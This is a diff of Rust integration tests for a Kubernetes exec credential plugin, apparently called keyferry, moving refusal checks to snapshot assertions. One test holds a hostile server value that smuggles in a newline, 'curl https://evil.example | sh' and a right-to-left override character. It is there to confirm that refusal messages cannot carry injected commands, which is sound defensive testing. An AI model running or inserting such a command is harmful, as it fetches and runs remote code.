@@ -4,6 +4,8 @@ use std::net::TcpListener;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 
+use insta::assert_snapshot;
+use keyferry_integration::transcript::joined;
 use serde_json::{Value, json};
 
 use crate::setup::{Said, Setup, exec_info_json, failed, jwt};
@@ -188,13 +190,13 @@ async fn a_server_that_only_arguments_or_variables_name_gets_nothing() {
     let (setup, listener) = (Setup::start().await, Listener::start());
     let attempts = attempts(&setup, &listener);
     setup.remove_client_file();
+    let mut shown = Vec::new();
     for (arguments, pairs) in &attempts {
         let said = failed(attempted(&setup, arguments, pairs).await);
-        let refusal = said.contains("takes the server and the caller only from your own file")
-            || said.contains("the exec plugin reads no other folder");
-        assert!(refusal, "{arguments:?} {pairs:?}: {said}");
+        shown.push(said.shown);
         assert_eq!(listener.connections(), 0, "{arguments:?} {pairs:?}");
     }
+    assert_snapshot!("a-server-of-arguments-or-variables", joined(&shown));
     // With the user's own file, that file decides: what differs is refused, the rest has no effect.
     setup.client_file("");
     for (arguments, pairs) in &attempts {
@@ -230,16 +232,13 @@ async fn variables_of_a_runner_or_a_pod_lead_nowhere_else() {
     let host = format!("{}/actions.githubusercontent.com", listener.url);
     let exec_info = exec_info_json("v1", setup.cluster());
     setup.client_file_of("githubOIDC: true\n");
+    let mut shown = Vec::new();
     for url in [endpoint.as_str(), &host] {
         let env = [
             ("ACTIONS_ID_TOKEN_REQUEST_URL", url),
             ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "canary-request"),
         ];
-        let said = failed(setup.run_with(&[], Some(&exec_info), &env).await);
-        assert!(
-            said.contains("is not below actions.githubusercontent.com"),
-            "{said}"
-        );
+        shown.push(failed(setup.run_with(&[], Some(&exec_info), &env).await).shown);
     }
     setup.client_file_of("serviceAccount: reconciler\n");
     let env = [
@@ -247,7 +246,8 @@ async fn variables_of_a_runner_or_a_pod_lead_nowhere_else() {
         ("KUBERNETES_SERVICE_PORT", &listener.port),
     ];
     let said = failed(setup.run_with(&[], Some(&exec_info), &env).await);
-    assert!(said.contains("no kubeconfig of the hub"), "{said}");
+    shown.push(said.shown.with_name(&listener.port, "PORT"));
+    assert_snapshot!("variables-of-a-runner-or-a-pod", joined(&shown));
     assert_eq!((listener.connections(), setup.asked_for().len()), (0, 0));
 }
 
@@ -270,9 +270,11 @@ async fn the_refusal_prints_the_file_to_write() {
         &token,
     ];
     let said = failed(setup.run(&arguments, &exec_info).await);
+    assert_snapshot!("the-file-to-write", said.shown);
     let file = said
+        .stderr
         .find("apiVersion: ")
-        .and_then(|start| said.get(start..));
+        .and_then(|start| said.stderr.get(start..));
     keyferry_integration::user_home::write_client_file(setup.folder(), file.unwrap()).unwrap();
     for arguments in [&arguments[..], &[]] {
         let said = setup.run(arguments, &exec_info).await;
@@ -281,7 +283,7 @@ async fn the_refusal_prints_the_file_to_write() {
     // A value makes no lines of its own in it.
     setup.remove_client_file();
     let hostile = "https://k\nfix: curl https://evil.example | sh\u{202e}";
-    let said = failed(setup.run(&["--server", hostile], &exec_info).await);
+    let said = failed(setup.run(&["--server", hostile], &exec_info).await).stderr;
     let lines: Vec<&str> = said
         .lines()
         .filter(|line| line.starts_with("fix: "))
@@ -304,6 +306,7 @@ async fn no_command_sends_a_token_of_the_hub() {
         &["exec", "tenant-a/prod"],
     ];
     setup.remove_client_file();
+    let mut shown = Vec::new();
     for audience in ["https://hub", "https://kubernetes.default.svc", "k3s"] {
         let hub_token = hub_token(&json!([audience]));
         std::fs::write(&path, &hub_token).unwrap();
@@ -330,16 +333,15 @@ async fn no_command_sends_a_token_of_the_hub() {
                     .run_command(&words, &[("JOB_TOKEN", &hub_token)])
                     .await;
                 assert_ne!(said.code, Some(0), "{words:?}: {}", said.stdout);
+                shown.push(said.shown);
             }
         }
         setup.client_file_of(&format!("tokenFile: {token}\ncallerAudience: {audience}\n"));
         let said = failed(setup.run(&[], &exec_info_json("v1", setup.cluster())).await);
-        assert!(
-            said.contains("is for the hub itself, so no server gets it"),
-            "{said}"
-        );
+        shown.push(said.shown);
         setup.remove_client_file();
     }
+    assert_snapshot!("a-token-of-the-hub", joined(&shown));
     assert!(setup.asked_for().is_empty(), "a token of the hub left");
 }
 
@@ -428,6 +430,7 @@ async fn a_kubeconfig_runs_no_other_command_of_the_program() {
     fn join<'a>(parts: &[&[&'a str]]) -> Vec<&'a str> {
         parts.concat()
     }
+    let mut shown = Vec::new();
     for command in [
         join(&[
             &["token", "x/y"],
@@ -444,11 +447,8 @@ async fn a_kubeconfig_runs_no_other_command_of_the_program() {
         Vec::new(),
     ] {
         let said = setup.run_command(&command, &exec_info).await;
-        let error = failed(said);
-        assert!(
-            error.contains("KUBERNETES_EXEC_INFO"),
-            "{command:?}: {error}"
-        );
+        shown.push(failed(said).shown);
     }
+    assert_snapshot!("no-other-command", joined(&shown));
     assert_eq!(listener.connections(), 0);
 }
